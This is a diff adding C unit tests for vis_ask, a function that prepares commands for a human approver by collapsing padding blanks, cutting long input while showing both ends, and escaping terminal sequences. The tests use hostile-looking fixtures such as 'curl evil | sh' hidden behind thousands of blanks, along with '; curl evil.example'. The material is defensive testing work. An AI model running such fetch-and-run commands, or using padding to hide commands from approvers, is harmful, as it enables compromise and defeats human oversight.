@@ -1,6 +1,8 @@
 // SPDX-License-Identifier: ISC
 /* Strings for a person's terminal (common/vis.c): what is shown how. */
 #include <check.h>
+#include <stdio.h>
+#include <stdlib.h>
 #include <string.h>
 
 #include "common/vis.h"
@@ -67,6 +69,80 @@ START_TEST(bounded)
 }
 END_TEST
 
+/*
+ * What an approver is asked about (vis_ask): a command padded with
+ * blanks, or too long for the screen, shows both ends and says what it
+ * left out; escapes hold inside; a short string is as vis() shows it.
+ */
+START_TEST(ask_blanks)
+{
+	char	*in = malloc(5000), *out;
+	int	 cut;
+
+	snprintf(in, 5000, "ls%*s; curl evil | sh", 4001, "");
+	out = vis_ask(in, VIS_ASK_MAX, &cut);
+	ck_assert_str_eq(out, "ls<4001 blanks>; curl evil | sh");
+	ck_assert_int_eq(cut, 0);
+	free(out);
+	/* Tabs and Unicode's spaces (NBSP, EM SPACE, IDEOGRAPHIC SPACE). */
+	out = vis_ask("a\t\t\xc2\xa0\xc2\xa0\xe2\x80\x83\xe3\x80\x80 b",
+	    VIS_ASK_MAX, &cut);
+	ck_assert_str_eq(out, "a<7 blanks>b");
+	free(out);
+	/* A few blanks stay as they are. */
+	out = vis_ask("git  push    origin", VIS_ASK_MAX, &cut);
+	ck_assert_str_eq(out, "git  push    origin");
+	free(out);
+	/* An escape sequence after the blanks is still escaped. */
+	out = vis_ask("x          \033[2K\rok", VIS_ASK_MAX, &cut);
+	ck_assert_str_eq(out, "x<10 blanks>\\e[2K\\rok");
+	free(out);
+	free(in);
+}
+END_TEST
+
+START_TEST(ask_long)
+{
+	size_t	 n = 100 * 1024, len;
+	char	*in = malloc(n + 1), *out, *full;
+	int	 cut;
+
+	memset(in, 'x', n);
+	memcpy(in, "echo ", 5);
+	memcpy(in + n - 20, "; curl evil.example", 19);
+	in[n - 1] = '!';
+	in[n] = '\0';
+	out = vis_ask(in, VIS_ASK_MAX, &cut);
+	len = strlen(out);
+	ck_assert_int_eq(cut, 1);
+	ck_assert_msg(len <= VIS_ASK_MAX + 64, "%zu bytes", len);
+	ck_assert(strncmp(out, "echo ", 5) == 0);
+	ck_assert_msg(strstr(out, "; curl evil.example!") != NULL, "%s", out);
+	ck_assert_msg(strstr(out, "bytes more, answer v to see all") != NULL,
+	    "%s", out);
+	/* Head, marker and tail account for every byte. */
+	ck_assert_msg(strstr(out, "<... 102000 bytes more") != NULL, "%s",
+	    out);
+	/* No limit: the whole of it. */
+	full = vis_ask(in, 0, &cut);
+	ck_assert_int_eq(cut, 0);
+	ck_assert_str_eq(full, in);
+	free(full);
+	free(out);
+	/* A cut never splits an escape: \e stays whole at either end. */
+	memset(in, '\033', n);
+	in[n] = '\0';
+	out = vis_ask(in, VIS_ASK_MAX, &cut);
+	ck_assert_msg(strstr(out, "\\e <...") != NULL, "%s", out);
+	ck_assert_msg(strstr(out, "...> \\e") != NULL, "%s", out);
+	free(out);
+	out = vis_ask(NULL, VIS_ASK_MAX, &cut);
+	ck_assert_str_eq(out, "-");
+	free(out);
+	free(in);
+}
+END_TEST
+
 int
 main(void)
 {
@@ -78,6 +154,8 @@ main(void)
 	tcase_add_test(tc, hidden_shown);
 	tcase_add_test(tc, not_utf8);
 	tcase_add_test(tc, bounded);
+	tcase_add_test(tc, ask_blanks);
+	tcase_add_test(tc, ask_long);
 	suite_add_tcase(s, tc);
 	return unit_run(s);
 }
